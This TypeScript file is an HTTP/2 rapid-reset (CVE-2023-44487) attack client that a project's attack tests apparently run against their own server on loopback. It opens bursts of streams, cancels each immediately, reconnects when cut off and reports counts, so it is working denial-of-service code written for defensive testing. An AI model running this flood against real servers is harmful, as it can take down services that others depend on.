/**
 * A reconnecting HTTP/2 rapid-reset client (the CVE-2023-44487 pattern), run as its own process by
 * the attack tests: opens streams and cancels each at once, reconnecting whenever the server closes
 * the session. Stops after `<seconds>`; prints one JSON line of counts (`waits`: bursts held back
 * because the previous ones were not yet on the wire; `stuck`: sessions given up after 500 ms).
 * 127.0.0.1 only.
 * Usage: tsx rapid-reset-client.ts <port> <ca file> <seconds>
 */
import { readFileSync } from 'node:fs';
import * as http2 from 'node:http2';

const [portText, caFile, secondsText] = process.argv.slice(2);
const port = Number(portText);
const ca = readFileSync(caFile ?? '', 'utf8');
const until = Date.now() + Number(secondsText ?? '10') * 1000;
const counts = {
  sessions: 0,
  streams: 0,
  goaways: 0,
  refused: 0,
  errors: 0,
  waits: 0,
  stuck: 0,
};
const MAX_PENDING = 1_000;

function attack(): Promise<void> {
  return new Promise((resolve) => {
    counts.sessions++;
    const session = http2.connect(`https://localhost:${port}`, {
      ca,
      host: '127.0.0.1',
      servername: 'localhost',
      // Another loopback source than the measuring client's, as an attacking pod has another
      // address than the API server: the server throttles the attacker's source after a cut.
      localAddress: '127.0.0.2',
    } as http2.SecureClientSessionOptions);
    let open = true;
    // Bounded whatever the server does: a session neither closed nor usable is dropped. Short, as
    // an attacker's would be: this client's own event loop, busy with its outbound queue, often
    // learns of the server's close late (\`stuck\` counts those).
    const stuck = setTimeout(() => {
      counts.stuck++;
      done();
    }, 500);
    const done = () => {
      if (!open) return;
      open = false;
      clearTimeout(stuck);
      session.destroy();
      resolve();
    };
    session.on('goaway', () => counts.goaways++);
    session.on('error', () => {
      counts.errors++;
      done();
    });
    session.on('close', done);
    // Some servers drop the connection without a GOAWAY: the socket's end is the signal.
    session.socket.once('close', done);
    session.once('connect', () => {
      // Streams opened and not yet closed on this session. A real attacker sends as fast as the
      // socket takes it; queueing more than that only grows the client's own outbound queue, and
      // nghttp2 then spends whole event-loop turns on it (the client stalled, timers included,
      // and never printed its tally).
      let pending = 0;
      const burst = () => {
        if (!open || session.destroyed || session.closed || Date.now() > until) return done();
        if (pending > MAX_PENDING || (session.state.outboundQueueSize ?? 0) > MAX_PENDING) {
          counts.waits++;
          setTimeout(burst, 1);
          return;
        }
        for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
          try {
            const stream = session.request({ ':method': 'GET', ':path': '/healthz' });
            pending++;
            stream.on('error', () => counts.refused++);
            stream.once('close', () => pending--);
            stream.close(http2.constants.NGHTTP2_CANCEL);
            counts.streams++;
          } catch {
            counts.refused++;
            return done();
          }
        }
        setImmediate(burst);
      };
      burst();
    });
  });
}

let reported = false;
/** Once: the timer below and the end of the loop can both come first. */
const report = () => {
  if (reported) return;
  reported = true;
  const { user, system } = process.cpuUsage();
  const cpuSeconds = Number(((user + system) / 1e6).toFixed(2));
  process.stdout.write(`${JSON.stringify({ ...counts, cpuSeconds })}\n`, () => process.exit(0));
};
// Whatever the sessions do, report and stop shortly after the attack's end.
setTimeout(report, until - Date.now() + 1_000);
while (Date.now() < until) await attack();
report();
